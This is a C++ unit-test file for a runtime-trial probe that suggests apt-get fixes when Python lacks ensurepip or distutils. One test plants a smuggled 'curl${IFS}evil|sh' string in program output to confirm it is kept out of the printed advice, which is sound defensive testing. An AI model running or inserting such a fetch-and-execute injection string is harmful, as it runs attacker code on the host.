#include "agent/probes/installed/runtime_trial.h"

#include <gtest/gtest.h>

#include "tests/agent/probes/probe_bench.h"

namespace connect_ha {
namespace {

// Answers every command alike and keeps how it was run.
class OneAnswerHost : public FakeHost {
 public:
  absl::StatusOr<CommandResult> Run(const std::vector<std::string>& arguments,
                                    const CommandOptions& options) override {
    ++runs;
    command = arguments;
    asked = options;
    return answer;
  }

  CommandResult answer;
  int runs = 0;
  std::vector<std::string> command;
  CommandOptions asked;
};

class RuntimeTrialTest : public testing::Test {
 protected:
  RuntimeTrialTest() : bench_(std::make_unique<OneAnswerHost>()) {
    UserEntry user;
    user.name = "rstudio-connect";
    user.uid = 999;
    host().SetUser(user);
  }
  OneAnswerHost& host() { return static_cast<OneAnswerHost&>(*bench_.host); }
  // The first line of a failed run's output.
  std::string WhyNot(v1::RuntimeKind kind, const std::string& executable,
                     const std::string& output) {
    host().answer.exit_code = 1;
    host().answer.output = output;
    const auto run = TryRuntime(bench_.Input(), kind, executable);
    if (!run.ok() || run->passed()) return "not a failed run";
    return run->output().substr(0, run->output().find('\n'));
  }

  ProbeBench bench_;
};

constexpr char kDebiansWords[] =
    R"(The virtual environment was not created successfully because ensurepip is not
available.  On Debian/Ubuntu systems, you need to install the python3-venv
package using the following command.

    apt install python3.10-venv

Failing command: /tmp/tmpq2/bin/python3
)";

TEST_F(RuntimeTrialTest, AMissingVenvPackageIsNamed) {
  const std::string words =
      "it has no ensurepip, so no environment can be made for content: apt-get install ";
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3", kDebiansWords), words + "python3.10-venv");
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3.12", "No module named ensurepip\n"),
            words + "python3.12-venv");
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3", "No module named ensurepip\n"),
            words + "python3-venv");
  // What is printed is content's, and root types what is said here.
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3",
                   "No module named ensurepip\npython3.1;curl${IFS}evil|sh;1\n"),
            words + "python3-venv");
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3",
                   "ModuleNotFoundError: No module named 'distutils.util'\n"),
            "it has no distutils, so no environment can be made for content: apt-get install "
            "python3-distutils");
}

TEST_F(RuntimeTrialTest, APythonOfNoPackageOfTheSystemIsToBeReinstalled) {
  EXPECT_EQ(WhyNot(v1::PYTHON, "/opt/python/3.10.14/bin/python3", "No module named ensurepip\n"),
            "it has no ensurepip, so no environment can be made for content: reinstall it with "
            "ensurepip");
}

TEST_F(RuntimeTrialTest, AnyOtherFailureIsShownAsItIs) {
  EXPECT_EQ(WhyNot(v1::PYTHON, "/usr/bin/python3", "OSError: no space left\n"),
            "OSError: no space left");
  EXPECT_EQ(WhyNot(v1::QUARTO, "/opt/quarto/bin/quarto", "No module named ensurepip\n"),
            "No module named ensurepip");
}

TEST_F(RuntimeTrialTest, WhatLiesInTheAccountsHomeHasNoSay) {
  host().answer.exit_code = 0;
  ASSERT_TRUE(TryRuntime(bench_.Input(), v1::PYTHON, "/usr/bin/python3").ok());
  EXPECT_EQ(host().command[1], "-I");
  EXPECT_EQ(host().asked.environment,
            (std::vector<std::string>{"PYTHONNOUSERSITE=1", "PYTHONSAFEPATH=1"}));
  EXPECT_TRUE(host().asked.empty_home);
  ASSERT_TRUE(TryRuntime(bench_.Input(), v1::R, "/opt/R/4.3.3/bin/R").ok());
  EXPECT_EQ(host().command[1], "--vanilla");
  EXPECT_TRUE(host().asked.empty_home);
}

TEST_F(RuntimeTrialTest, OfMuchOutputTheEndIsKeptAndLittleOfThat) {
  host().answer.exit_code = 1;
  host().answer.output = std::string(50'000, 'x') + " the end\n";
  const auto run = TryRuntime(bench_.Input(), v1::QUARTO, "/opt/quarto/bin/quarto");
  ASSERT_TRUE(run.ok());
  EXPECT_TRUE(host().asked.keep_end);
  EXPECT_LT(run->output().size(), 5'000u);
  EXPECT_NE(run->output().find(" the end\nexit code 1"), std::string::npos);
}

// Any process of the account may send them.
TEST_F(RuntimeTrialTest, ASignalFromOutsideIsNoVerdict) {
  host().answer.exit_code = 128 + 9;
  EXPECT_EQ(TryRuntime(bench_.Input(), v1::QUARTO, "/opt/quarto/bin/quarto").status(),
            absl::DeadlineExceededError("the smoke run was ended by signal 9"));
  host().answer.exit_code = 128 + 11;  // a crash is
  EXPECT_TRUE(TryRuntime(bench_.Input(), v1::QUARTO, "/opt/quarto/bin/quarto").ok());
}

class KeptTrialTest : public RuntimeTrialTest {
 protected:
  KeptTrialTest() {
    host().SetFile(kPython, "python");
    host().SetFile("/opt/python/3.11.9/lib/python3.11/os.py", "os");
    host().answer.exit_code = 0;
  }
  // How many programs it took to tell.
  int Runs() {
    const int before = host().runs;
    EXPECT_TRUE(TryRuntime(bench_.Input(), v1::PYTHON, kPython).ok());
    return host().runs - before;
  }
  static constexpr char kPython[] = "/opt/python/3.11.9/bin/python3.11";
};

TEST_F(KeptTrialTest, WhatPassedIsNotRunAgainWhileItIsTheSame) {
  EXPECT_EQ(Runs(), 1);
  EXPECT_EQ(Runs(), 0);
  host().SetFile("/var/lib/dpkg/status", "Package: other\n");  // dpkg was at work elsewhere
  EXPECT_EQ(Runs(), 0);
}

TEST_F(KeptTrialTest, AnotherExecutableIsTried) {
  EXPECT_EQ(Runs(), 1);
  host().SetFile(kPython, "another");
  EXPECT_EQ(Runs(), 1);
}

TEST_F(KeptTrialTest, ALibraryThatCameOrWentIsTried) {
  EXPECT_EQ(Runs(), 1);
  host().SetDirectory("/opt/python/3.11.9/lib/python3.11/ensurepip");
  EXPECT_EQ(Runs(), 1);
  host().Erase("/opt/python/3.11.9/lib/python3.11/ensurepip");
  EXPECT_EQ(Runs(), 1);
}

TEST_F(KeptTrialTest, ForAnotherAccountItIsTried) {
  EXPECT_EQ(Runs(), 1);
  UserEntry other;
  other.name = "other";
  other.uid = 1000;
  host().SetUser(other);
  bench_.Configure({{"Applications.RunAs", "other"}});
  EXPECT_EQ(Runs(), 1);
}

TEST_F(KeptTrialTest, OnceADayItIsTriedAllTheSame) {
  EXPECT_EQ(Runs(), 1);
  host().Advance(std::chrono::hours(23));
  EXPECT_EQ(Runs(), 0);
  host().Advance(std::chrono::hours(2));
  EXPECT_EQ(Runs(), 1);
}

// What it lacks may have been installed beside it.
TEST_F(KeptTrialTest, WhatFailedIsTriedAtEachAsking) {
  host().answer.exit_code = 1;
  EXPECT_EQ(Runs(), 1);
  EXPECT_EQ(Runs(), 1);
}

}  // namespace
}  // namespace connect_ha
